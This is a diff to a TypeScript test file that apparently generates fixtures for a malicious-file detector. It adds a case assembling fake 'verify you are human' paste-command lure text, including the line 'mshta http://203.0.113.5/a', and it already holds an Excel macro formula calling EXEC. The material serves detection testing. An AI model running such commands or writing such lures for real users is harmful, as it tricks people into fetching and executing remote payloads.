@@ -310,6 +310,25 @@ const CASES: Readonly<Record<string, Create>> = {
   'compound files': changed(writeOle({ streams: { a: FILE } })),
   'macro sheets': (random) =>
     writeXlm({ formulas: ['EXEC("a")'], part: ['foo/bar.xml', 'macrosheets/sheet1.xml', 'a.bin'][random(3)] ?? '' }),
+  'commands to paste': textOf([
+    ...[
+      'You are human\n',
+      'win',
+      'dows',
+      ' ',
+      ' + ',
+      '-',
+      '+',
+      'r\n',
+      'key',
+      'control',
+      'cmd',
+      'v ',
+      'open the ',
+      'terminal',
+    ],
+    ...['paste\n', 'copy\n', 'type ', '"run', 'mshta http://203.0.113.5/a\n', '\n'],
+  ]),
   'PDF files': textOf(['%PDF-1.7\n', '\0', 'x'.repeat(600), '1 0 obj<</A 1>>endobj', '\n']),
   OneNote: changed(
     latin1(
